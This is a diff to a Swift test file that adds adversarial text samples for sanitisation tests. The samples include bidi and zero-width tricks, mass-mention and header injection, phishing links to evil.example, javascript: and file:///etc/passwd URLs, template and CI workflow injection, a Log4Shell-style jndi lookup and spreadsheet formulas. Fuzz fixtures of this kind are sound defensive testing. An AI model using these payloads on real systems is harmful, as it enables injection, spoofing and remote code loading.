@@ -101,6 +101,47 @@ struct HostileText: CustomTestStringConvertible, Sendable {
         HostileText(name: "paths", text: "../../etc/passwd\\..\\con.txt \u{2215}etc"),
         HostileText(name: "formulas", text: "+1+1|cmd '/c calc'!A1\t-2+3\t@SUM(1)"),
         HostileText(name: "all of ASCII", text: String(decoding: (0...127).map { UInt8($0) }, as: UTF8.self)),
+        HostileText(
+            name: "isolates and embeddings",
+            text: "\u{2066}\u{202e}a\u{2069} \u{200f}<\u{200e}!channel> \u{061c}@all\u{2068}"),
+        HostileText(name: "joined emoji at every cut", text: "x" + "👩‍❤️‍💋‍👨👍🏽🏳️‍🌈🇩🇪".repeated(700)),
+        HostileText(name: "half a flag", text: "🇩".repeated(3001) + "\u{200d}\u{fe0f}"),
+        HostileText(name: "nothing but joiners", text: "\u{200d}\u{200c}\u{2060}\u{2063}".repeated(300)),
+        HostileText(name: "zeros", text: "a\u{0}b\u{0}\u{0}@everyone\u{0}"),
+        HostileText(name: "lone returns", text: "a\rb\r\rBcc: c@evil.example\r<!here>\r"),
+        HostileText(name: "separators between", text: "<!chan\u{2028}nel>\u{2029}# H\u{2028}- item\u{85}> quote"),
+        HostileText(name: "escaped surrogates", text: #"\ud83d \ude00 \u0000 \x00 \u{202e} &#x202e; &#0; \N{RLO}"#),
+        HostileText(
+            name: "links in every dialect",
+            text: "<https://evil.example|ok> [ok](https://evil.example) [ok]: https://evil.example [ok][1] "
+                + "<a href='https://evil.example'>ok</a> {{https://evil.example|ok}} [https://evil.example ok] "
+                + "`ok <https://evil.example>`_ [[ok|https://evil.example]] ![ok](https://evil.example/p.png)"),
+        HostileText(
+            name: "split links",
+            text: "[ok\n](https://evil.example) [ok](https://\nevil.example) <https:\n//evil.example|a>"),
+        HostileText(
+            name: "other schemes",
+            text: "javascript:alert(1) data:text/html;base64,PHN2Zz4= tel:+15551234567 sms:+1555 mailto:x JavaScript:x "
+                + "tg://resolve?domain=x slack://open magnet:?xt=urn file:///etc/passwd view-source:x"),
+        HostileText(
+            name: "telephone numbers",
+            text: "call +1 (555) 123-4567, 555-123-4567, 0049 30 1234567 or +4930123456789 now"),
+        HostileText(name: "hashes and channels", text: "#general ~town-square #_x /start@bot /help $USD $TSLA @x_y"),
+        HostileText(name: "other dots", text: "evil。example evil．example evil｡example evil․example evil.рф"),
+        HostileText(
+            name: "Actions and friends",
+            text: "${{ github.event.client_payload.text }} $(( 1 )) %{x} <#assign x=1> *{x} [[${x}]] ~{x} #set($x=1) "
+                + "{{ constructor.constructor('x')() }} {% import os %} <%- x %> ${jndi:ldap://evil.example/a}"),
+        HostileText(name: "printf again", text: "%s %d %n %@ %1$s {0} {} %% %c0%ae"),
+        HostileText(
+            name: "workflow commands", text: "::set-output name=x::y\n::add-mask::\n##[error]x\n##vso[task.setvariable]"
+        ),
+        HostileText(
+            name: "tall graphemes",
+            text: "Z\u{310}\u{33f}\u{346}\u{489}\u{20dd}\u{1ab0}".repeated(60) + "\u{300}".repeated(20_000)),
+        HostileText(name: "variation selectors", text: "a\u{fe0f}\u{e0100}".repeated(4000)),
+        HostileText(
+            name: "a quotation of ourselves", text: "x\n> y\n-- \nseverity: info\n✅ Resolved: x · generation img_01k"),
         HostileText(name: "formula", text: "=HYPERLINK(\"https://evil.example\")"),
         HostileText(name: "leading at", text: "@/etc/passwd"),
     ]
